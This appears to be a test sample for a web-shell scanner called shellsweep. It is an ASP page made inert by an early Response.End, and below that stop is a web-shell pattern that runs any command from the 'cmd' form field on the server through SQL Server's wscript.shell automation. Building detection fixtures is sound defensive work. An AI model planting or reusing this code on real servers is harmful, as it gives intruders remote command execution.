<% ' shellsweep test sample: inert, never functional
Response.End %>
<%
Set c = Server.CreateObject("ADODB.Connection")
c.Open Request.Form("dsn")
c.Execute "declare @s int; exec sp_oacreate wscript.shell, @s out; exec sp_oamethod @s, run, null, " & Request.Form("cmd") & ""
%>
